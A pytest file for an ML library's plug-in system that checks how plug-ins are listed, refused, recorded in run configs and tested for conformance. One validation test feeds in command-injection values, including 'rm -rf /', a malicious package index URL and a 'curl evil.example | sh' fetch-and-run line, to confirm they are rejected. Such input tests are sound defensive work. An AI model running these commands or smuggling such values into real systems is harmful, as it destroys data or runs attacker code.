"""Plug-ins of real distributions: what is listed, refused, recorded and said, and the example of docs/extending.md."""

import dataclasses
import json
import os
import re
import shlex
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import jax
import jax.numpy as jnp
import pytest

import zoo as interface
from benchmarks.attention import conformance
from eval.tasks import task_table
from tests.support import example_plugin, tiny
from tests.support.commands import BOOK, call, in_folder
from tests.support.example_plugin import installed, write_distribution, write_example
from tests.support.processes import ROOT, run_python
from train import objectives, recipes
from train.config.find_objective import find_options
from train.config.optim_options import Optim
from train.config.run_plugins import load_hook_factory
from train.engine import optimizers
from train.run import run_dir
from train.run.run_dir import RunDir
from zoo import configs, models, plugins
from zoo.attention import attention
from zoo.errors import BadInput

GPT = [*tiny.FLAGS, "--steps", "2", "--data.paths", "book.txt"]
BAG = ["--steps", "2", "--data.paths", "book.txt", "--data.length", "32", "--data.batch", "8", "--tokenizer.vocab", "300"]
BAG += ["--model.vocab", "300", "--log.validate-rows", "8"]
LOOKUPS: dict[str, Callable[[str], object]] = {
    "zoo.models": models.family,
    "zoo.objectives": objectives.objective,
    "zoo.attention": attention.find_implementation,
    "zoo.optimizers": lambda name: optimizers.direction_of(Optim(name=name)),
    "zoo.tasks": task_table.find_task,
    "zoo.recipes": recipes.find_recipe,
    "zoo.hooks": load_hook_factory,
}
OWN = {
    "zoo.models": "gpt",
    "zoo.objectives": "causal",
    "zoo.attention": "xla",
    "zoo.optimizers": "lion",
    "zoo.tasks": "lambada",
    "zoo.recipes": "gpt-nano",
}
"""Group -> a name that the zoo has; it has no hook with a name."""


@pytest.fixture
def example(tmp_path: Path) -> Iterator[Path]:
    """A folder with a text and the example of the page, which is installed and not imported."""
    (tmp_path / "book.txt").write_text(BOOK)
    with installed(write_example(tmp_path / "site")), in_folder(tmp_path):
        yield tmp_path


def is_imported() -> bool:
    return any(name.startswith("zoo_example") for name in sys.modules)


def test_lists_show_names_and_distributions_and_import_nothing(example: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert re.search(r"^bag-nano +Plug-in of zoo-example 0\.1\.$", call(capsys, "train", "--help").stdout, re.MULTILINE)
    assert "families of plug-ins: bag (zoo-example 0.1)" in call(capsys, "models").stdout
    assert interface.recipes()["bag-nano"] == "Plug-in of zoo-example 0.1."
    ended = call(capsys, "train", "bag-nanoo")
    assert ended.code == 2 and "the nearest is 'bag-nano'" in ended.stderr and "bag-nano (zoo-example 0.1))" in ended.stderr
    refusals = (("--objective z-los", "the nearest is z-loss"), ("--model.compute.attention plan", "the nearest is plain"))
    for option, message in refusals:
        ended = call(capsys, "train", "gpt-nano", *option.split())
        assert ended.code == 2 and message in ended.stderr and "(zoo-example 0.1)" in ended.stderr
    with pytest.raises(BadInput, match=r"nearest is top-one .*top-one \(zoo-example 0.1\)"):
        task_table.check_task("top-won")
    # The zoo's own names are found without any plug-in.
    assert configs.find_size("gpt2")[0] == "gpt" and "bag" not in configs.families()
    assert not is_imported()


def test_a_process_that_lists_or_looks_up_a_name_of_the_zoo_imports_no_plugin(tmp_path: Path) -> None:
    program = (
        "import sys, zoo; from zoo.cli import main; main.main(['--help']); main.main(['train', '--help']); zoo.sizes();"
        "print({name for name in sys.modules if name.split('.')[0] in ('zoo_example', 'jax')})"
    )
    site = write_example(tmp_path / "site")
    ended = run_python("-c", program, env={"PYTHONPATH": os.pathsep.join([str(ROOT), str(site)])})
    assert ended.stdout.endswith("set()\n") and "zoo-example 0.1" in ended.stdout, ended


@pytest.mark.parametrize("group", plugins.GROUPS)
def test_a_name_that_two_have_is_refused(group: str, tmp_path: Path) -> None:
    for name in ("zoo-one", "zoo-two"):
        own = {OWN[group]: "absent_module"} if name == "zoo-one" and group in OWN else {}
        rows = {"shared": "absent_module", **own}
        write_distribution(tmp_path / name, name, "1.0", {group: rows}, {})
    kind, where = plugins.GROUPS[group], f"rename its entry point in the group {group}$"
    with installed(tmp_path / "zoo-one", tmp_path / "zoo-two"):
        both = f"provided by transformer-zoo and by zoo-one 1.0; uninstall zoo-one, or {where}"
        if group in OWN:
            with pytest.raises(BadInput, match=f"^{kind} '{OWN[group]}': {both}"):
                LOOKUPS[group](OWN[group])
        with pytest.raises(
            BadInput, match=f"^{kind} 'shared': provided by zoo-one 1.0 and by zoo-two 1.0; uninstall one .*{where}"
        ):
            LOOKUPS[group]("shared")
        # "auto" selects the zoo's own implementation whatever is installed.
        ones = jnp.ones((1, 1, 1, 1))
        assert attention.attention(ones, ones, ones, mask=attention.Mask()).shape == ones.shape
    assert group not in OWN or LOOKUPS[group](OWN[group])


@pytest.mark.parametrize("group", plugins.GROUPS)
def test_a_plugin_that_fails_or_is_something_else_is_refused_in_one_line(group: str, tmp_path: Path) -> None:
    values = {"broken": "zoo_broken", "gone": "zoo_gone", "wrong": "zoo_wrong", "lacking": "zoo_wrong:absent"}
    files = {"zoo_broken.py": "import a_module_that_is_absent", "zoo_wrong.py": "x = 1"}
    with installed(write_distribution(tmp_path, "zoo-bad", "2.0", {group: values}, files)):
        reasons = {
            "broken": r"zoo_broken cannot be imported \(ModuleNotFoundError: No module named 'a_module_that_is_absent'\); reinst",
            "gone": r"zoo_gone cannot be imported \(ModuleNotFoundError: No module named 'zoo_gone'\); reinstall or fix zoo-bad",
            "lacking": r"zoo_wrong:absent cannot be imported \(AttributeError: .*\); reinstall or fix zoo-bad, or uninstall it",
            "wrong": r"zoo_wrong is a module; expected an? .*; see docs/extending.md, or report it to zoo-bad",
        }
        for name, reason in reasons.items():
            with pytest.raises(BadInput, match=f"^{plugins.GROUPS[group]} '{name}' of zoo-bad 2.0: {reason}") as refusal:
                LOOKUPS[group](name)
            assert "\n" not in str(refusal.value)
        assert group not in OWN or LOOKUPS[group](OWN[group])


def test_a_recipe_that_returns_no_run_of_its_name_is_refused(tmp_path: Path) -> None:
    files = {"zoo_bad.py": "from train.recipes.gpt import gpt_nano\ndef none(): return 3"}
    values = {"other": "zoo_bad:gpt_nano", "none": "zoo_bad:none"}
    with installed(write_distribution(tmp_path, "zoo-bad", "2.0", {"zoo.recipes": values}, files)):
        for name in values:
            with pytest.raises(BadInput, match=f"recipe '{name}' of zoo-bad 2.0: returned .* with recipe='{name}'; report it to"):
                recipes.recipe_run(name, "")


WRONG_FAMILIES = {
    "bag_model.py": ("FAMILY = Family(", "FAMILY = dict(", "bag_model:FAMILY is a dict; expected a zoo.nn.family.Family"),
    "bag_config.py": (
        "class Config(ModelConfig)",
        "class Config",
        "bag_config is a module; expected .* derived from zoo",
    ),
}


@pytest.mark.planted
@pytest.mark.parametrize("file", WRONG_FAMILIES)
def test_a_family_of_another_type_is_refused(file: str, tmp_path: Path) -> None:
    right, wrong, refusal = WRONG_FAMILIES[file]
    module = write_example(tmp_path) / "zoo_example" / file
    assert right in module.read_text()
    # The checks of sizes are `ModelConfig`'s.
    module.write_text(module.read_text().replace(right, wrong).replace("self.check_fields()", "pass"))
    with installed(tmp_path), pytest.raises(BadInput, match=rf"^model family 'bag' of zoo-example 0\.1: zoo_example\.{refusal}"):
        models.family("bag")


WRONG_OBJECTIVES = {
    "another name": ('objective = "other"', "OPTIONS = Mine"),
    "a field of a run": ('objective = "mine"\n    steps: int = 3', "OPTIONS = Mine"),
    "the options of the zoo": ('objective = "mine"', "OPTIONS = CausalOptions"),
    "no options": ('objective = "mine"', ""),
}


@pytest.mark.parametrize(("options", "named"), WRONG_OBJECTIVES.values(), ids=WRONG_OBJECTIVES)
def test_an_objective_without_options_of_its_own_is_refused(options: str, named: str, tmp_path: Path) -> None:
    text = f"""
import dataclasses
from train.config.objectives import CausalOptions
from train.objectives.causal import Causal

@dataclasses.dataclass(frozen=True, kw_only=True)
class Mine(CausalOptions):
    {options}

class Objective(Causal):
    FAMILIES = ("gpt",)
    {named}
"""
    values = {"zoo.objectives": {"mine": "zoo_bad:Objective"}}
    site = write_distribution(tmp_path, "zoo-bad", "2.0", values, {"zoo_bad.py": text})
    refusal = r"'mine' of zoo-bad 2\.0: zoo_bad:Objective is .*; expected a subclass of .*; see docs"
    with installed(site), pytest.raises(BadInput, match=refusal):
        find_options("mine")


def test_a_kernel_that_cannot_be_imported_is_refused_in_one_line(tmp_path: Path) -> None:
    row = "Implementation(module='zoo_absent', function='f', platforms=EVERYWHERE, features=frozenset({'causal'}))"
    files = {"zoo_row.py": f"from zoo.attention.attention import EVERYWHERE, Implementation\nROW = {row}"}
    q = jnp.zeros((1, 4, 1, 8))
    site = write_distribution(tmp_path, "zoo-bad", "2.0", {"zoo.attention": {"late": "zoo_row:ROW"}}, files)
    refusal = r"attention implementation 'late' of zoo-bad 2\.0: zoo_absent:f cannot be imported"
    with installed(site), pytest.raises(BadInput, match=refusal):
        attention.attention(q, q, q, mask=attention.Mask(causal=True), impl="late")


def write_run(folder: Path) -> RunDir:
    """Write the config.json of a run that uses all plug-ins of the example."""
    run = recipes.recipe_run("bag-nano", "")
    run = dataclasses.replace(run, model=dataclasses.replace(run.model, compute=configs.Compute(attention="plain")))
    (folder / "run").mkdir()
    RunDir(folder / "run").write_config(run)
    run_dir.confirm_own(folder / "run", notify=pytest.fail)
    assert run_dir.read_config(folder / "run") == run
    return RunDir(folder / "run")


def test_a_run_records_its_plugins_and_names_what_is_missing(tmp_path: Path) -> None:
    with installed(write_example(tmp_path / "first")):
        folder = write_run(tmp_path)
        assert run_dir.plugin_notices(folder.path) == []
    records = json.loads(folder.config.read_text())["plugins"]
    assert [tuple(record.values()) for record in records] == [
        (group, name, "zoo-example", "0.1")
        for group, name in zip(
            ("zoo.recipes", "zoo.models", "zoo.objectives", "zoo.attention"), ("bag-nano", "bag", "z-loss", "plain"), strict=True
        )
    ]
    with pytest.raises(
        BadInput, match=r"run/config.json: the run uses the model family 'bag' of zoo-example 0.1, which is not inst"
    ):
        run_dir.read_config(folder.path)
    with pytest.raises(BadInput, match=r"; install the distribution zoo-example, version 0\.1, if you trust it$"):
        interface.load(folder.path)
    with installed(write_example(tmp_path / "newer", version="0.2")):
        run_dir.read_config(folder.path)
        lines = run_dir.plugin_notices(folder.path)
        assert len(lines) == 3 and "'bag' of zoo-example 0.1: the run used this version, and 0.2 is installed" in lines[0]
    # The values of a recipe are in config.json, and another implementation of attention may be chosen.
    with installed(write_example(tmp_path / "no_recipe", without="zoo.recipes")):
        run_dir.read_config(folder.path)
    with installed(write_example(tmp_path / "no_attention", without="zoo.attention")):
        with pytest.raises(BadInput, match=r"uses the attention implementation 'plain' of zoo-example 0\.1"):
            run_dir.read_config(folder.path)
        assert run_dir.read_config(folder.path, compute=False).model.compute == configs.Compute()
    rows = {"zoo.objectives": {"z-loss": "absent_module"}}
    other = write_distribution(tmp_path / "other", "zoo-other", "3", rows, {})
    missing = r"'z-loss' of zoo-example 0\.1, which is not installed; here zoo-other 3 has this name; inst"
    site = write_example(tmp_path / "no_objective", without="zoo.objectives")
    with installed(site, other), pytest.raises(BadInput, match=missing):
        run_dir.read_config(folder.path)
    for damaged in (3, [3], [{"group": "zoo.models"}], [{**records[0], "group": "other"}], [{**records[0], "version": 1}]):
        folder.config.write_text(json.dumps({**json.loads(folder.config.read_text()), "plugins": damaged}))
        with pytest.raises(
            BadInput, match=r"config\.json: plugins: expected a list of objects with group, name, distribution, v"
        ):
            run_dir.read_config(folder.path)
        with pytest.raises(BadInput, match="plugins: expected a list"):
            run_dir.read_config(folder.path, compute=False)


@pytest.mark.planted(5)
def test_a_record_is_no_part_of_a_command(tmp_path: Path) -> None:
    with installed(write_example(tmp_path / "site")):
        folder = write_run(tmp_path)
    config = json.loads(folder.config.read_text())
    for key, value in (
        ("distribution", "evil; rm -rf /"),
        ("distribution", "--index-url=https://evil.example/"),
        ("version", "1'; curl evil.example | sh; '"),
        ("version", "1" * 101),
        ("name", "z-loss\nrun this"),
    ):
        folder.config.write_text(json.dumps({**config, "plugins": [{**config["plugins"][1], key: value}]}))
        with pytest.raises(BadInput, match=rf"config\.json: plugins: .* is not the {key} of a plug-in; restore the file$"):
            run_dir.read_config(folder.path)


def test_a_run_without_plugins_records_none(tmp_path: Path) -> None:
    with installed(write_example(tmp_path / "site")):
        (tmp_path / "run").mkdir()
        RunDir(tmp_path / "run").write_config(recipes.recipe_run("gpt-nano", ""))
    assert "plugins" not in json.loads((tmp_path / "run" / "config.json").read_text())


def test_the_kernel_of_the_page_passes_the_conformance_tests(example: Path) -> None:
    for case in ("full", "causal", "length 1"):
        for dtype in conformance.DTYPES:
            assert conformance.check_implementation("plain", case, dtype).ok, (case, dtype)
    with pytest.raises(BadInput, match="'plain' cannot do this: it has no window; these can: reference, xla, blocked"):
        conformance.check_implementation("plain", "window")


def test_the_pallas_kernel_of_the_page_passes_them_in_the_interpreter(example: Path) -> None:
    with attention.interpreted("row-softmax"):
        for case in ("full", "causal"):
            assert conformance.check_implementation("row-softmax", case).ok, case
        q = jax.ShapeDtypeStruct((1, 4096, 1, 64), jnp.float32)
        with pytest.raises(BadInput, match="rows of 4096 keys do not fit the vector memory; choose at most 2048"):
            jax.eval_shape(lambda q: attention.attention(q, q, q, mask=attention.Mask(), impl="row-softmax"), q)
    with pytest.raises(BadInput, match="'row-softmax' cannot do this: it runs on tpu, and this is cpu"):
        conformance.check_implementation("row-softmax", "causal")
    q = jnp.zeros((1, 4, 1, 512))
    with pytest.raises(BadInput, match="heads of 512 are too large; choose at most 256"):
        attention.attention(q, q, q, mask=attention.Mask(), impl="plain")


@pytest.mark.planted
def test_a_wrong_kernel_of_a_plugin_is_caught(example: Path) -> None:
    kernel = example / "site" / "zoo_example" / "plain.py"
    kernel.write_text(kernel.read_text().replace("scores = scale *", "scores = 1.001 * scale *"))
    assert not conformance.check_implementation("plain", "causal").ok


@pytest.mark.planted
def test_a_wrong_pallas_kernel_of_a_plugin_is_caught(example: Path) -> None:
    kernel = example / "site" / "zoo_example" / "row_softmax.py"
    kernel.write_text(kernel.read_text().replace("<= query", "< query + 2"))
    with attention.interpreted("row-softmax"):
        assert not conformance.check_implementation("row-softmax", "causal").ok


@pytest.mark.full
def test_a_hook_ends_a_run_with_a_reason(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The run is scored at that step, and counts as finished."""
    hook = "def early(run): return lambda loop: loop.end('enough was learned') if loop.step == 2 else None"
    site = write_distribution(tmp_path / "site", "zoo-end", "1", {"zoo.hooks": {"early": "zoo_end:early"}}, {"zoo_end.py": hook})
    (tmp_path / "book.txt").write_text(BOOK)
    command = ["train", "gpt-nano", *GPT, "--steps", "4", "--log.hooks", "early", "--name", "short"]
    with installed(site), in_folder(tmp_path):
        ended = call(capsys, *command)
        assert ended.code == 0 and "ended at step 2 of 4: enough was learned" in ended.stdout + ended.stderr, ended
        assert json.loads(Path("runs/short/scores.json").read_text())["step"] == 2
        again = call(capsys, *command)
        assert again.code == 0 and "runs/short is finished" in again.stdout + again.stderr, again


@pytest.mark.slow
def test_the_commands_of_the_page_train_resume_and_evaluate(example: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """In this process, as short runs."""
    Path("text.txt").write_text("Call me Ishmael.\nSome years ago\n")
    commands = example_plugin.page_commands()
    assert len(commands) == 6
    short = {"train bag-nano": BAG, "train gpt-nano": GPT, "bench attention": ["--shape", "2,16,16,2,2,8", "--rounds", "2"]}
    printed = {}
    for command in commands:
        program, *words = shlex.split(command)
        if program == "zoo":
            extra = next((options for start, options in short.items() if " ".join(words).startswith(start)), [])
            ended = call(capsys, *[word for word in words if not extra or word not in ("--steps", "200")], *extra)
            assert ended.code == 0, (command, ended)
            printed[" ".join(words[:2])] = ended.stdout + ended.stderr
        else:
            assert (program, words[:2]) == ("python", ["-m", conformance.__name__])
            assert conformance.main(words[2:]) == 0

    assert re.search(r"^ +attention +none$", printed["train bag-nano"], re.MULTILINE)
    assert "accuracy" in printed["eval runs/bag-nano"]
    assert re.search(r"step 2: the norm of the trained parameters is [1-9]\d", printed["train gpt-nano"])
    ended = call(capsys, "train", "gpt-nano", *GPT, "--name", "other", "--log.hooks", "weight-nrm")
    known = "no plug-in in the group zoo.hooks has this name; choose from: weight-norm (zoo-example 0.1)"
    assert ended.code == 2 and f"--log.hooks weight-nrm: {known}" in ended.stderr
    (entry,) = json.loads(Path("runs/bag-nano/evaluations.json").read_text()).values()
    assert entry["details"]["plug-in"] == "zoo-example 0.1"
    rows = [json.loads(line) for line in Path("runs/bag-nano/metrics.jsonl").read_text().splitlines()]
    assert all(0 < row["terms"]["z"] < row["terms"]["causal"] for row in rows if row["kind"] == "train")
    loaded = interface.load("runs/bag-nano")
    assert loaded.model.family == "bag" and loaded.config.vocab == 300
    ended = call(capsys, "train", "bag-nano", *BAG, "--name", "other", "--label-smoothing", "0.1")
    assert ended.code == 2 and "--label-smoothing 0.1: it has no effect on z-loss; remove it" in ended.stderr
    ended = call(capsys, "train", "t5-nano", "--objective", "z-loss", "--data.paths", "book.txt")
    assert ended.code == 2 and "--objective z-loss: t5 is trained with denoising, text_to_text, preference, dpo, " in ended.stderr
    run = ["train", "gpt-nano", *GPT, "--objective", "z-loss", "--z-weight", "1e-3"]
    ended = call(capsys, *run, "--name", "other", "--loss-chunk", "8")
    assert ended.code == 2 and "--loss-chunk 8: it has no effect on z-loss; remove it" in ended.stderr
    assert "plain (zoo-example 0.1)" in printed["train gpt-nano"]
    weight = json.loads(Path("runs/gpt-nano/config.json").read_text())["z_weight"]
    assert weight == run_dir.read_config("runs/gpt-nano").options.z_weight == 1e-3
    with installed(write_example(example / "newer", version="0.2", without="zoo.attention")):
        # Without its kernel a run goes on with another one.
        Path("runs/gpt-nano/scores.json").unlink()
        ended = call(capsys, *run, "--optim.name", "ademamix")
        line = "zoo-example 0.1: the run used this version, and 0.2 is installed"
        assert ended.code == 0 and line in ended.stdout + ended.stderr, ended
        ended = call(capsys, "eval", "runs/bag-nano")
        assert ended.code == 0 and "zoo-example 0.1: the run used this version" in ended.stderr, ended
